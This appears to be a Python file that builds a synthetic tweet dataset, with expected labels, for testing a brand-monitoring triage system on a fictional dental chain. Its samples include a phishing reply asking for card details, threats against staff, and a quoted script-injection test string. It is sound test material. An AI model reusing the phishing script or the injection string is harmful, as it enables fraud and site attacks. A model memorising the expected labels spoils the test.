# Cusp Dental: a made-up chain of six dental practices around Wenmoor (Wenmoor High Street,
# Holtby Road, Saltcote harbour, Ridley Cross and two more): check-ups and appointments,
# NHS places and private treatment, fees, deposits and payment plans, fillings, crowns,
# extractions, implants and dentures, an urgent dental line, braces and clear aligners, and
# hygienists. "Cusp" is also an everyday word ("on the cusp of"), a point of a tooth, a
# point in astrology ("born on the cusp"), an indie band called Cusp and a surname
# (Professor Imogen Cusp): none of them is the dental chain.
# Written blind, from PRODUCT.md and the scenario README's conventions only.
# Exec'd inside make_data.py's namespace (see BRANDS there). Every post, person, place,
# practice, phone number, card number, patient number, address and email address here is
# made up. Phone numbers are from the UK drama ranges; the card number is a Luhn-valid
# test number.


def build_cusp_dental():
    global CURRENT_BRAND, CLOCK
    brand = Brand("cusp-dental", SCEN_DIR / "cusp-dental.plan.toml", "CuspDental", 4234567823, 1861220000000002701)
    CURRENT_BRAND, CLOCK = brand, Clock("2027-09-27T05:40:00Z")
    B = "CuspDental"
    user(B, "Cusp Dental", 4234567823,
         "Cusp Dental patient team 🦷 8am–8pm Mon–Sat, six practices around Wenmoor. Urgent dental line 0808 157 0318. "
         "Please never post your patient number, date of birth or card details here.",
         18_400, following=620, tweets=41_000, listed=95, verified=True)

    ids = iter(range(7712400000, 7799999999, 265_431))

    def u(username, name, bio, followers, **kw):
        return user(username, name, next(ids), bio, followers, **kw)

    u("WenmoorGazette", "The Wenmoor Gazette", "News for Wenmoor, Holtby, Saltcote and Ridley Cross since 1888.",
      38_500, following=900, verified=True)
    u("gwyn_probert", "Gwyn Probert", "Retired postie. Saltcote. Grandad x4.", 140)
    u("priya_ossel", "Priya Osselton", "Pharmacy dispenser. Ridley Cross. Bus-dependent.", 310)
    u("bev_hewison", "Bev Hewison", "Carer for my mum. Tea, crosswords, patience (running low).", 220)
    u("dunc_quips", "Duncan Ferris", "Pub quiz captain. Puns are a public service.", 1_150)
    u("dev_raithatha", "Dev Raithatha", "Delivery driver. Leicester fan stuck in Wenmoor.", 190)
    u("CuspDentalCare", "Cusp Dental Support ✅", "Official Cusp Dental patient refunds & support 24/7 🦷 DM or WhatsApp for fast help",
      31, following=4100)
    u("marnie_quayle", "Marnie Quayle", "Primary teacher. Holtby. Never ill, apparently.", 460)
    u("lou_brannigan", "Lou Brannigan", "Florist in Saltcote. Talks to plants.", 520)
    u("tash_okonkwo_w", "Tasha Okonkwo", "HCA on nights. Saltcote born and bred.", 380)
    u("thesis_ellen_r", "Ellen Ruddock", "PhD, coastal erosion. Caffeine-powered.", 640)
    u("boilerhouse_bex", "Bex Tranter", "Gigs, gigs, gigs. Wenmoor's loudest.", 870)
    u("hattie_lomax", "Hattie Lomax", "Product manager. Will not call you, please text.", 1_300)
    u("rhys_tanat", "Rhys Tanat", "Plasterer. Holtby.", 90)
    u("jordy_pascoe", "Jordy Pascoe", "Sound engineer. Perpetually unlucky.", 720)
    u("cosmic_kez", "Kez Amadi", "Tarot, memes, Mercury retrograde survivor ✨", 2_400)
    u("nervous_nell_w", "Nell Whitcombe", "Librarian. Scaredy-cat. Cat person.", 280)
    u("KeeleyRaeFit", "Keeley Rae", "Fitness, family, real talk. Mum of 3. Collabs: see link.",
      782_000, following=1_100, listed=2_900, verified=True)
    u("keeley_fan_abi", "Abi Marsh", "", 60)
    u("rob_stainer", "Rob Stainer", "", 35)
    u("anjali_marsh", "Anjali Marsh", "Mum of twins. Saltcote. Send coffee.", 410)
    u("marta_quiroga", "Marta Quiroga", "Madrileña en Wenmoor. Enfermera de día, mamá de noche.", 330)
    u("kyle_beddoes", "Kyle Beddoes", "Scaffolder. Golf badly.", 75)
    u("fiona_trelawny", "Fiona Trelawny", "Accountant. Holtby. Facts first.", 260)
    u("mags_ferriday", "Mags Ferriday", "Mum, nan, shop floor supervisor. No filter.", 340)
    u("lee_cottam_w", "Lee Cottam", "Chef. Long shifts, short fuse.", 150)
    u("soph_ainsworth", "Sophie Ainsworth", "Wenmoor. Running, wine, repeat.", 590)
    u("jas_kaur_wm", "Jas Kaur", "Optometrist. Holtby Road regular.", 430)
    u("chloe_penhale", "Chloe Penhale", "Nurse. Holtby. Sister of a drama queen.", 380)
    u("denise_penhale", "Denise Penhale", "Retired dinner lady. Bingo Tuesdays.", 120)
    u("newtosaltcote", "Callum Reed", "Just moved to Saltcote from Leeds. Recommend me things.", 210)
    u("gill_tamsett", "Gill Tamsett", "Saltcote lifer. Knows everyone.", 980)
    u("wonky_wendy_h", "Wendy Harker", "44, finally doing things for me.", 170)
    u("tomasz_wrobel", "Tomasz Wróbel", "Engineer. New in Wenmoor.", 140)
    u("null_byte_nadia", "Nadia Farouk", "Web developer. Breaks forms for fun.", 1_900)
    u("gooner_den_wm", "Dennis Hale", "Arsenal till I die. Opinions on everything.", 3_200)
    u("libra_lottie", "Lottie Brenchley", "Indecisive Libra (or Virgo). Brunch enthusiast.", 690)
    u("WenmoorUni", "Wenmoor University", "Official account of Wenmoor University.", 54_000, following=1_400, verified=True)
    u("sam_achter_wm", "Sam Achterberg", "Dad of two. Works nights, sleeps never.", 230)
    u("oona_ferraby", "Oona Ferraby", "Copywriter. Dry as toast.", 1_600)
    u("becky_ashdown", "Becky Ashdown", "Admin at the council. Holtby.", 300)
    u("lina_haddad_w", "Lina Haddad", "Mum of a 14 year old who knows everything.", 250)
    u("martin_greave", "Martin Greave", "Dad. Taxi service for teenagers.", 180)
    u("owain_pryce_rx", "Owain Pryce", "Electrician. Ridley Cross.", 130)
    u("giulia_ferretti", "Giulia Ferretti", "Torinese a Saltcote. Ricercatrice.", 270)
    u("hannah_obi_w", "Hannah Obi", "Baby no.2 due December 🤰", 480)
    u("pete_lumsden", "Pete Lumsden", "Retired fire officer. Ridley Cross.", 310)
    u("julien_marchal", "Julien Marchal", "", 45)
    u("tina_robb_w", "Tina Robb", "Holtby mum. School gate gossip.", 520)
    u("kayleigh_moss", "Kayleigh Moss", "Ollie's mum. Holtby.", 260)
    u("big_stu_hardy", "Stuart Hardy", "Family first. Don't test me.", 190)
    u("katrin_vogel_w", "Katrin Vogel", "Aus Bremen, jetzt in Wenmoor.", 160)
    u("sanne_bakker_w", "Sanne Bakker", "Rotterdamse in Wenmoor. Moeder van Fleur (12).", 200)
    u("ines_moura_w", "Inês Moura", "Portuense em Saltcote. Mãe do Tiago.", 230)
    u("agnieszka_lis", "Agnieszka Lis", "Z Krakowa do Holtby.", 110)
    u("graham_tull", "Graham Tull", "Semi-retired. Ridley Cross. Writes to the paper.", 140)
    u("zainab_qureshi", "Zainab Qureshi", "Law student. Wenmoor. Hungry.", 410)
    u("RDunmoreNews", "Rachel Dunmore", "Health correspondent, national TV. Views my own.",
      452_000, following=2_300, listed=3_100, verified=True)
    u("millie_jarvis", "Millie Jarvis", "Wenmoor High St regular. Nosy.", 330)
    u("dentalnurse_jo", "Jo (dental nurse)", "Dental nurse, 12 years. Be kind to NHS staff.", 1_450)
    u("SmileGlowDeals", "SmileGlow Giveaways 🎁", "Daily beauty giveaways ✨ Follow + RT to win!", 5_200, following=4_900)
    u("pentest_parveen", "Parveen Sidhu", "Security tester. Orthodontic survivor (adult edition).", 2_100)
    u("UKHealthWire", "UK Health Wire", "Health and care news from across the UK. Not medical advice.", 96_000, verified=True)
    u("werthers_wes", "Wes Gowan", "Sweets are my downfall.", 240)
    u("leeds_gig_lad", "Rory Bates", "Leeds. Guitars. Tinnitus.", 560)
    u("ciaran_mulvey", "Ciarán Mulvey", "Holtby. Teeth: a saga.", 180)
    u("shy_siobhan", "Siobhan Keane", "Hairdresser. Scared of everything medical.", 350)
    u("nadia_haroun", "Nadia Haroun", "Daughter, carer, tired.", 290)
    u("tamsin_grey_w", "Tamsin Grey", "Graphic designer. Tuesday hater.", 840)
    u("aled_morgan_w", "Aled Morgan", "Bus driver. Wenmoor.", 120)

    # ---- Monday, 27 September -----------------------------------------------------------
    SC("cusp-news-nhs-places-closing", "news-monitor",
       tw("WenmoorGazette", "Cusp Dental will stop taking on new adult NHS patients at four of its six practices around Wenmoor from November, the company has confirmed. Children will still be registered. {url:https://wenmoor-gazette.example/2027/09/cusp-nhs-places}",
          when="2027-09-27T06:05:00Z"),
       expect(MON, "low", "nhs_access", "indirect"))
    urgent_line = tw(B, "Morning 🦷 Our urgent dental line is open from 7:30 today on 0808 157 0318. If swelling is spreading to your eye or neck, bleeding won't stop, or you're struggling to breathe or swallow, call 999 or go to A&amp;E.",
                     when="2027-09-27T06:30:00Z")
    SC("cusp-own-urgent-line-morning", "brand-own-post", urgent_line, expect(IGN, "low", "urgent_care", "none"))
    SC("cusp-repost-urgent-line", "repost", tw("gwyn_probert", "", retweet=urgent_line, when="2027-09-27T06:52:10Z"),
       expect(IGN, "low", "urgent_care", "indirect"), note="a helpful repost of the brand's own post is still a repost")

    priya = tw("priya_ossel", f"@{B} booked a check-up at Ridley Cross 6 weeks ago, got the confirmation text and everything. turned up this morning and apparently I'm 'not on the system'. 40 mins on the bus each way. how??",
               when="2027-09-27T08:02:44Z")
    SC("cusp-not-on-the-system", "complaint-direct", priya, expect(RP, "normal", "appointments", "direct"))

    bev = tw("bev_hewison", "been trying to get my mum registered as an NHS patient at Cusp Dental in Saltcote since March. 'no capacity', 'try next month', 'the list is closed'. she's 81 and hasn't seen a dentist in 3 years",
             when="2027-09-27T08:10:31Z")
    SC("cusp-mum-nhs-since-march", "complaint-indirect", bev, expect(RP, "normal", "nhs_access", "indirect"),
       note="named, not tagged, about her own family's experience")
    SC("cusp-bystander-permanently-on-the-cusp", "joke-bystander",
       tw("dunc_quips", "@bev_hewison they're called Cusp because your mum is permanently on the cusp of being seen 😂 sorry Bev, couldn't resist",
          reply_to=bev, when="2027-09-27T08:34:12Z"),
       expect(IGN, "low", None, "third_party"), note="a pun on the name by someone else inside a customer's thread")

    SC("cusp-calm-swelling-into-neck", "medical-urgent",
       tw("marnie_quayle", f"@{B} quick one, no rush 🙂 had a wisdom tooth removed at Holtby Road on Friday. the swelling has moved down into my neck today and it's a bit hard to swallow. is that normal or should I pop back in at some point?",
          when="2027-09-27T08:41:05Z"),
       expect(RP, "urgent", "urgent_care", "direct"),
       note="calmly asked, but spreading swelling into the neck with trouble swallowing after an extraction can close the airway: urgent",
       known_miss="round 8, not met yet: topic: want 'urgent_care', got treatment; the engine read: addressed to @CuspDental | complaint (0.77) | a medical need: urgent | topic treatment: 'wisdom tooth'")

    bev_brand = tw(B, "@bev_hewison Hi Bev, I'm sorry, that's far too long for your mum to wait. Saltcote's list is full, but Ridley Cross opened 40 NHS places this week and it's all on the ground floor. Shall I DM you so we can get her booked today?",
                   reply_to=bev, when="2027-09-27T09:02:19Z")
    SC("cusp-nhs-place-or-private-upsell", "question-in-reply-to-brand",
       tw("bev_hewison", "yes please, DM sent. is it definitely an NHS place though? last time we were told NHS and then they only offered her private",
          reply_to=bev_brand, when="2027-09-27T09:20:47Z"),
       expect(RP, "normal", "nhs_access", "direct"), note="a question in reply to the brand, no @")

    dev = tw("dev_raithatha", f"@{B} why has my payment plan direct debit come out twice this month? £48 on the 1st and £48 again on the 3rd. that was my food shop",
             when="2027-09-27T09:48:02Z")
    SC("cusp-direct-debit-twice", "complaint-direct", dev, expect(RP, "normal", "fees", "direct"))
    SC("cusp-spam-fake-support-refund", "spam",
       tw("CuspDentalCare", "@dev_raithatha Hi Dev 👋 Cusp Dental support here! We can refund you today ✅ just DM us your long card number, expiry and the 3 digits on the back, or WhatsApp us 👉 {url:https://cusp-refunds.example/claim}",
          reply_to=dev, when="2027-09-27T10:03:36Z"),
       expect(IGN, "low", "fees", "third_party"), note="an impersonator fishing for card details in a customer's thread")
    dev_brand = tw(B, "@dev_raithatha Sorry Dev. Please ignore anyone in the replies asking for card details, that isn't us and we never ask. I've sent you a DM: once you confirm your details there we'll refund the second £48 within 48 hours.",
                   reply_to=dev, when="2027-09-27T10:19:50Z")
    SC("cusp-own-reply-dev", "brand-own-post", dev_brand, expect(IGN, "low", "fees", "none"))

    SC("cusp-common-word-phd", "common-word",
       tw("thesis_ellen_r", "on the cusp of actually finishing this thesis. 3 chapters down, 1 to go, 4 litres of coffee in my bloodstream ☕📚",
          when="2027-09-27T10:40:13Z"),
       expect(IGN, "low", None, "none"))

    SC("cusp-patient-number-dob-phone", "private-details",
       tw("rhys_tanat", f"@{B} patient no. CD-448120, DOB 14/03/1986. my payment plan says it's closed but the money is still leaving my account every month. ring me on 07700 900417 after 5 please",
          when="2027-09-27T11:32:26Z"),
       expect(RV, "normal", "fees", "direct"), note="patient number, date of birth and phone in public")

    priya_brand = tw(B, "@priya_ossel That's not good enough, sorry Priya. I can see the booking was made, so this has gone wrong our end. I've asked the Ridley Cross practice manager to ring you by 12 tomorrow with a new date that suits you.",
                     when="2027-09-27T12:05:37Z", reply_to=priya)
    SC("cusp-second-time-lost-me", "thread-with-brand",
       tw("priya_ossel", "ok, thanks for actually replying. it's the second time though, same thing happened in May, and the receptionist acted like I'd made it up",
          reply_to=priya_brand, when="2027-09-27T12:21:09Z"),
       expect(RP, "normal", "conduct", "direct"), note="the customer answers the brand's reply without an @",
       known_miss="round 8, not met yet: priority: want 'normal', got low; the engine read: replies to @CuspDental: the customer is talking to the brand | praise: thank them | topic conduct: 'receptionist'")

    SC("cusp-sarcasm-online-booking", "sarcasm-customer",
       tw("hattie_lomax", f"@{B} love that your online booking shows 30 free slots right up until I click one and it says 'please call the practice'. the practice that doesn't answer. genius system 👏",
          when="2027-09-27T13:14:58Z"),
       expect(RP, "normal", "appointments", "direct"))

    lou = tw("lou_brannigan", f"@{B} had 2 teeth out at Saltcote at 11. it's 4pm and it's still bleeding quite a lot through the gauze. how long is normal?",
             when="2027-09-27T15:02:40Z")
    SC("cusp-bleeding-how-long-normal", "medical-urgent", lou, expect(RP, "urgent", "urgent_care", "direct"),
       note="a calm question about bleeding five hours after an extraction is a clinical question: urgent",
       known_miss="round 8, not met yet: topic: want 'urgent_care', got treatment; the engine read: addressed to @CuspDental | complaint (0.61) | a person at risk: urgent | topic treatment: 'teeth out'")
    lou_brand = tw(B, "@lou_brannigan Hi Lou. Some oozing is normal for a day. Fold a fresh gauze pad, bite down firmly for 30 minutes without checking it, and keep your head up. If it's still flowing after that, call our urgent line on 0808 157 0318.",
                   reply_to=lou, when="2027-09-27T15:18:22Z")
    lou2 = tw("lou_brannigan", "done that twice now. it's still bleeding, my mouth keeps filling up, there are clots in the sink and I'm starting to feel really faint. urgent line says a clinician will call back 'within 4 hours'??",
              reply_to=lou_brand, when="2027-09-27T16:37:51Z")
    SC("cusp-still-bleeding-feeling-faint", "medical-urgent", lou2, expect(RP, "urgent", "urgent_care", "direct"),
       note="a thread reply without the handle: heavy bleeding and feeling faint")
    SC("cusp-chatter-go-to-a-and-e", "third-party-chatter",
       tw("tash_okonkwo_w", "@lou_brannigan do NOT wait 4 hours for Cusp to ring back babe, get someone to drive you to A&amp;E now. that's exactly how my dad ended up needing a transfusion",
          reply_to=lou2, when="2027-09-27T16:49:30Z"),
       expect(MON, "low", None, "third_party"), strict=False,
       note="good advice from a friend in the customer's own thread: Lou's post is the urgent case; some leads would flag this one urgent too")

    SC("cusp-praise-nervous-filling", "praise",
       tw("nervous_nell_w", "huge thank you to Dr Patel and the nurse at Cusp Dental on the High Street. 20 years terrified of dentists and she talked me through every second of my filling. didn't feel a thing 🥹",
          when="2027-09-27T17:12:06Z"),
       expect(RP, "low", "treatment", "indirect"))

    jordy = tw("jordy_pascoe", f"what a day. boiler packed in, car failed its MOT, and then @{B} cancelled my root canal appointment with 2 hours notice after I'd already left work early. just let me live",
               when="2027-09-27T18:40:33Z")
    SC("cusp-in-passing-what-a-day", "complaint-in-passing", jordy, expect(RP, "normal", "appointments", "indirect"),
       note="the brand tagged in the middle of a bad day")
    SC("cusp-bystander-mercury-retrograde", "joke-bystander",
       tw("cosmic_kez", "@jordy_pascoe your whole day was born on the cusp of Mercury retrograde and Cusp Dental 😂🪐 stay inside babe",
          reply_to=jordy, when="2027-09-27T19:03:15Z"),
       expect(IGN, "low", None, "third_party"), note="an astrology joke by a stranger in a customer's thread")

    SC("cusp-namesake-band-gig", "namesake",
       tw("boilerhouse_bex", "Cusp at the Boilerhouse tonight 🔥 the new songs are unreal and that bassline in the encore nearly took the roof off. see you in the front row in November",
          when="2027-09-27T22:14:48Z"),
       expect(IGN, "low", None, "none"), note="an indie band called Cusp")

    # ---- Tuesday, 28 September ----------------------------------------------------------
    keeley = tw("KeeleyRaeFit", f"11 weeks waiting for my daughter's braces from @{B}. Told 'the lab is behind' four times. Her teeth are moving back and nobody ever rings us. Is this happening to anyone else?",
                when="2027-09-28T06:55:10Z",
                metrics={"retweet_count": 1_300, "reply_count": 860, "like_count": 9_400, "quote_count": 120})
    SC("cusp-big-reach-braces-11-weeks", "big-reach", keeley, expect(RP, "high", "orthodontics", "indirect"),
       note="782k followers; the handle in the middle of the post")
    SC("cusp-repost-keeley", "repost", tw("keeley_fan_abi", "", retweet=keeley, when="2027-09-28T07:21:44Z"),
       expect(IGN, "low", "orthodontics", "indirect"))
    keeley_brand = tw(B, "@KeeleyRaeFit Hi Keeley, I'm sorry, 11 weeks is far too long. I've asked our orthodontic lead to look at your daughter's case this morning. Could you DM us her name and practice so we can call you today?",
                      reply_to=keeley, when="2027-09-28T07:40:03Z")
    SC("cusp-keeley-not-just-us", "thread-with-brand",
       tw("KeeleyRaeFit", "DM'd. but read the replies under my post, it's not just us. 40+ parents saying the same about braces and retainers. what is actually going on?",
          reply_to=keeley_brand, when="2027-09-28T08:12:29Z"),
       expect(RP, "high", "orthodontics", "direct"), note="a big-reach customer answering the brand's reply")

    SC("cusp-threat-receptionist-car-park", "threat-urgent",
       tw("rob_stainer", "if that receptionist at Cusp Holtby Road tells me 'nothing till November' one more time I'll be waiting by her car when she finishes tonight. let's see how smug she is then",
          when="2027-09-28T08:31:57Z"),
       expect(ANY, "urgent", "conduct", "indirect"), note="a threat to wait for a named member of staff at her car")

    SC("cusp-ceiling-sparking-waiting-room", "safety-urgent",
       tw("anjali_marsh", f"@{B} water is pouring through the ceiling in the Saltcote waiting room right by the light fitting and it's sparking. reception are still calling people through like nothing's happening. there are toddlers in here",
          when="2027-09-28T09:05:18Z"),
       expect(RP, "urgent", "incidents", "direct"), note="water and electricity next to a full waiting room, right now")

    SC("cusp-es-nina-tragado-bracket", "non-english",
       tw("marta_quiroga", f"@{B} mi hija de 9 años se ha tragado un bracket del aparato en el cole. ahora tose mucho y dice que le cuesta respirar. ¿qué hacemos? ¿vamos a urgencias?",
          lang="es", when="2027-09-28T10:26:40Z"),
       expect(RP, "urgent", "urgent_care", "direct"),
       note="Spanish: a 9-year-old swallowed a bracket and is coughing and struggling to breathe")

    SC("cusp-card-number-deposit", "private-details",
       tw("kyle_beddoes", f"@{B} tried paying the £60 deposit for my hygienist visit 3 times online and it keeps failing. card is 4111 1111 1111 1111 exp 08/29, can you just put it through for me?",
          when="2027-09-28T11:12:03Z"),
       expect(RV, "normal", "fees", "direct"), note="a full card number in public")

    SC("cusp-legal-wrong-tooth-gdc", "legal-threat-not-urgent",
       tw("fiona_trelawny", f"@{B} your dentist at Holtby Road drilled the wrong tooth. the healthy one NEXT to the one I pointed at. I've spoken to a solicitor and I'm reporting him to the GDC this week. expect a letter",
          when="2027-09-28T12:02:11Z"),
       expect(RP, "high", "treatment", "direct"), note="a past clinical error and a legal/regulator threat: high, not urgent")

    SC("cusp-abuse-wants-shooting-brace-wire", "abuse-with-problem",
       tw("mags_ferriday", f"@{B} whoever set up your phone lines wants shooting. 55 mins on hold to Saltcote, cut off twice, and my granddaughter's brace wire has come loose and is digging into her cheek. sort it out",
          when="2027-09-28T12:44:36Z"),
       expect(RP, "high", "orthodontics", "direct"),
       note="'wants shooting' is a British figure of speech, not a threat; rude, with a real problem")
    SC("cusp-abuse-thieving-no-show-charge", "abuse-with-problem",
       tw("lee_cottam_w", f"@{B} you thieving shower. £38 'no show' charge when I rang 2 days before to move it. I've got the call log on my phone. refund it today or I'm cancelling the lot",
          when="2027-09-28T13:20:52Z"),
       expect(RP, "high", "fees", "direct"), note="insults, but a real charge to put right",
       known_miss="round 8, not met yet: topic: want 'fees', got appointments; the engine read: addressed to @CuspDental | complaint (0.70) | rude, but still a customer with a problem | topic appointments: 'no show', 'cancelled'")

    soph = tw("soph_ainsworth", "@jas_kaur_wm how was the dentist? did you go to that new one in the end?",
              when="2027-09-28T13:40:10Z")
    SC("cusp-venting-hygienist-ten-minutes", "third-party-venting",
       tw("jas_kaur_wm", "@soph_ainsworth nope, stuck with Cusp on Holtby Road. hygienist had me in the chair 10 mins, barely touched my teeth and it was £68. honestly never again",
          reply_to=soph, when="2027-09-28T13:55:28Z"),
       expect(MON, "low", "hygiene", "third_party"), note="venting to a friend, brand not tagged: don't butt in")

    chloe = tw("chloe_penhale", "@denise_penhale did you get your teeth back from the menders mum? 😂",
               when="2027-09-28T14:02:47Z")
    SC("cusp-venting-denture-snapped", "third-party-venting",
       tw("denise_penhale", "@chloe_penhale don't. 3 weeks Cusp had my denture for a 'repair' and it snapped again on the second day. eating soup like a baby bird again",
          reply_to=chloe, when="2027-09-28T14:16:09Z"),
       expect(MON, "low", "treatment", "third_party"), note="venting to her daughter, brand named but not tagged")

    newcomer = tw("newtosaltcote", "anyone recommend a dentist in Saltcote? mine was in Leeds and I've a feeling I'm about due",
                  when="2027-09-28T14:30:00Z")
    SC("cusp-chatter-ask-for-dr-okafor", "third-party-chatter",
       tw("gill_tamsett", "@newtosaltcote Cusp on the harbour road are decent tbh, my lot have been with them years. ask for Dr Okafor, she's lovely with nervous people",
          reply_to=newcomer, when="2027-09-28T14:41:33Z"),
       expect(MON, "low", None, "third_party"), note="a stranger's recommendation inside someone else's thread",
       known_miss="round 8, not met yet: action: want 'monitor', got ignore; addressed: want 'third_party', got none; the engine read: the name Cusp Dental with no sign of the brand's business: another entity")

    SC("cusp-question-adult-aligners", "question",
       tw("wonky_wendy_h", f"@{B} do you do clear aligners or braces for adults over 40? my teeth have gone wonky since I was a kid and I've finally saved up",
          when="2027-09-28T15:04:21Z"),
       expect(RP, "normal", "orthodontics", "direct"))
    SC("cusp-question-nhs-wenmoor", "question",
       tw("tomasz_wrobel", f"@{B} is the Wenmoor practice taking on new NHS patients at the moment? moved here in August and can't find anywhere",
          when="2027-09-28T15:25:46Z"),
       expect(RP, "normal", "nhs_access", "direct"))
    SC("cusp-html-booking-page-script", "html-entities",
       tw("null_byte_nadia", f"@{B} your booking page is showing &lt;script&gt;alert('cusp')&lt;/script&gt; where the calendar should be &amp; I can't pick a slot for my check-up. might want to look at that 👀",
          when="2027-09-28T15:51:12Z"),
       expect(RP, "normal", "appointments", "direct"))

    SC("cusp-common-word-arsenal", "common-word",
       tw("gooner_den_wm", "Arsenal on the cusp of signing a left back, apparently. believe it when I see it. same as every window",
          when="2027-09-28T16:10:39Z"),
       expect(IGN, "low", None, "none"))
    SC("cusp-common-word-astrology", "common-word",
       tw("libra_lottie", "born on the cusp of Virgo and Libra so I can't decide anything, including what to order. apologies to every waiter I've ever met",
          when="2027-09-28T16:22:05Z"),
       expect(IGN, "low", None, "none"), note="a cusp in astrology")
    SC("cusp-namesake-professor-cusp", "namesake",
       tw("WenmoorUni", "Congratulations to Dr Imogen Cusp, appointed Professor of Materials Science this week. Her work on self-healing coatings has been cited worldwide 🎓 {url:https://wenmoor-uni.example/news/professor-cusp}",
          when="2027-09-28T16:40:48Z"),
       expect(IGN, "low", None, "none"),
       note="a professor whose surname is Cusp; 'Dr' and 'appointed' sound like a dental practice but are not")

    SC("cusp-hotline-four-calls-braces", "public-hotline-number",
       tw("sam_achter_wm", f"@{B} rang 0808 157 0318 four times today about my son's braces. 30+ mins on hold every time then cut off. is there actually anyone there?",
          when="2027-09-28T17:02:30Z"),
       expect(RP, "high", "orthodontics", "direct"), strict=False,
       note="the number is the brand's own line, not a private detail; four calls make it a repeated complaint")

    SC("cusp-sarcasm-floss-more", "sarcasm-customer",
       tw("oona_ferraby", "nothing says self care like paying Cusp Dental £95 so a hygienist can tell me to floss more. money well spent 🙃",
          when="2027-09-28T17:40:17Z"),
       expect(RP, "normal", "hygiene", "indirect"), note="sarcasm about the price of a hygienist visit")

    SC("cusp-allergic-rash-after-injection", "medical-urgent",
       tw("becky_ashdown", "had a filling at Cusp Dental this afternoon. my lips went tingly and tight straight after the injection, they said it was nerves and sent me home. now my lips are swelling, there's a blotchy rash up my neck and my voice sounds weird. is this normal??",
          when="2027-09-28T18:22:41Z"),
       expect(RP, "urgent", "urgent_care", "indirect"),
       note="signs of an allergic reaction to the anaesthetic, getting worse, no 'emergency' word")

    # ---- Wednesday, 29 September --------------------------------------------------------
    SC("cusp-repeat-third-debit", "repeat-contact",
       tw("dev_raithatha", "well you've taken it a THIRD time today, and the refund for the second one still isn't back. 48 hours was Monday. I've got £11 till Friday",
          reply_to=dev_brand, when="2027-09-29T07:15:22Z"),
       expect(RP, "high", "fees", "direct"), note="back on the same case: the promise was missed and it got worse")
    SC("cusp-repeat-nobody-rang", "repeat-contact",
       tw("priya_ossel", "Wednesday now. nobody rang yesterday, nobody rang today. still no check-up date. you said 12 tomorrow, which tomorrow?",
          reply_to=priya_brand, when="2027-09-29T07:48:09Z"),
       expect(RP, "high", "appointments", "direct"), note="the promised call never came")

    promo = tw(B, "Brace yourselves 😁 Clear aligners are now at all six Cusp practices, from £59 a month. Free consultations all through October, book online or at reception.",
               when="2027-09-29T08:00:00Z")
    SC("cusp-own-promo-aligners", "brand-own-post", promo, expect(IGN, "low", "orthodontics", "none"))
    SC("cusp-aligners-for-14-year-old", "question-in-reply-to-brand",
       tw("lina_haddad_w", "do the aligners work for 14 year olds too or is it just adults? her teeth are quite crowded at the front",
          reply_to=promo, when="2027-09-29T08:22:50Z"),
       expect(RP, "normal", "orthodontics", "direct"))
    SC("cusp-quote-brace-yourselves-retainer", "quote",
       tw("martin_greave", "'brace yourselves' 😂 my son's retainer has been 'on its way' for 6 weeks. maybe sort the ones you've already sold before the puns",
          quote=promo, when="2027-09-29T08:47:14Z"),
       expect(RP, "normal", "orthodontics", "indirect"), strict=False,
       note="a customer quotes the brand's post without tagging it")
    SC("cusp-quote-urgent-line-engaged", "quote",
       tw("owain_pryce_rx", "'open from 7:30' 🙄 rang at 7:31, 7:45 and 8:10, engaged every time. only wanted to get in for a crown that came off. imagine if it was actually urgent",
          quote=urgent_line, when="2027-09-29T09:05:37Z"),
       expect(RP, "normal", ANY, "indirect"), strict=False,
       note="quotes the brand's Monday post; a lost crown is not a risk; crown and urgent tie, so the topic is open")

    SC("cusp-it-febbre-guancia-gonfia", "non-english",
       tw("giulia_ferretti", f"@{B} dopo l'estrazione di giovedì a Saltcote ho la febbre a 39 e la guancia gonfia fino all'occhio. lo studio non risponde al telefono. cosa devo fare?",
          lang="it", when="2027-09-29T09:30:02Z"),
       expect(RP, "urgent", "urgent_care", "direct"), note="Italian: fever and swelling up to the eye after an extraction")

    SC("cusp-pregnant-antibiotics-abscess", "medical-urgent",
       tw("hannah_obi_w", f"@{B} hi, I'm 31 weeks pregnant and the dentist at Wenmoor gave me antibiotics for an abscess yesterday. midwife isn't answering, is amoxicillin ok to take in pregnancy?",
          when="2027-09-29T10:02:33Z"),
       expect(RP, "urgent", "urgent_care", "direct"), note="a calm medical question in pregnancy: urgent")

    SC("cusp-fire-door-padlocked", "safety-urgent",
       tw("pete_lumsden", "the fire door at the back of Cusp Dental Ridley Cross has had a padlock and chain on it for 3 weeks now. waiting room is rammed with kids every afternoon after school. just saying",
          when="2027-09-29T10:40:18Z"),
       expect(RP, "urgent", "incidents", "indirect"), note="a blocked fire exit in a busy waiting room, said without 'danger'")

    SC("cusp-fr-menace-dentiste", "threat-urgent",
       tw("julien_marchal", "Le dentiste de Cusp à Wenmoor m'a arraché la mauvaise dent. Je sais quelle voiture il conduit et où il se gare. La prochaine fois, c'est lui qui perdra des dents. Je ne plaisante pas.",
          lang="fr", when="2027-09-29T11:15:44Z"),
       expect(ANY, "urgent", None, "indirect"), note="French: a threat of violence against a dentist")

    tina = tw("tina_robb_w", "@kayleigh_moss how did Ollie get on at the dentist hun? x", when="2027-09-29T11:30:00Z")
    kay = tw("kayleigh_moss", "@tina_robb_w not good. the Cusp dentist at Holtby Road grabbed his jaw when he wouldn't open and told him to stop being a baby. he's 6. came out sobbing",
             reply_to=tina, when="2027-09-29T11:44:12Z")
    SC("cusp-threat-uncle-in-thread", "threat-urgent",
       tw("big_stu_hardy", "@kayleigh_moss give me that dentist's name. I know where the Cusp lot park on Holtby Road. he won't be grabbing any more kids when I've finished with him",
          reply_to=kay, when="2027-09-29T12:01:57Z"),
       expect(ANY, "urgent", None, "third_party"), note="a threat against a dentist, in someone else's thread, brand not tagged")

    SC("cusp-de-rechnung-zahnreinigung", "non-english",
       tw("katrin_vogel_w", f"@{B} heute kam die Rechnung für meine Zahnreinigung: 95 £. Am Telefon war der Preis noch 60 £. Wie kommt das?",
          lang="de", when="2027-09-29T12:30:25Z"),
       expect(RP, "normal", "fees", "direct"), note="German: billed more than the price quoted on the phone")
    SC("cusp-nl-beugel-dood-van-zenuwen", "non-english",
       tw("sanne_bakker_w", f"@{B} mijn dochter (12) krijgt volgende week een beugel in Wenmoor. ik ga dood van de zenuwen haha. mag ik mee in de behandelkamer?",
          lang="nl", when="2027-09-29T13:02:48Z"),
       expect(RP, "normal", "orthodontics", "direct"),
       note="Dutch: 'I'm dying of nerves' is a figure of speech; a question about braces")
    SC("cusp-pt-primeira-limpeza", "praise",
       tw("ines_moura_w", "Obrigada à equipa da Cusp Dental em Saltcote! O meu filho tinha pavor do dentista e hoje fez a primeira limpeza a sorrir 🥰",
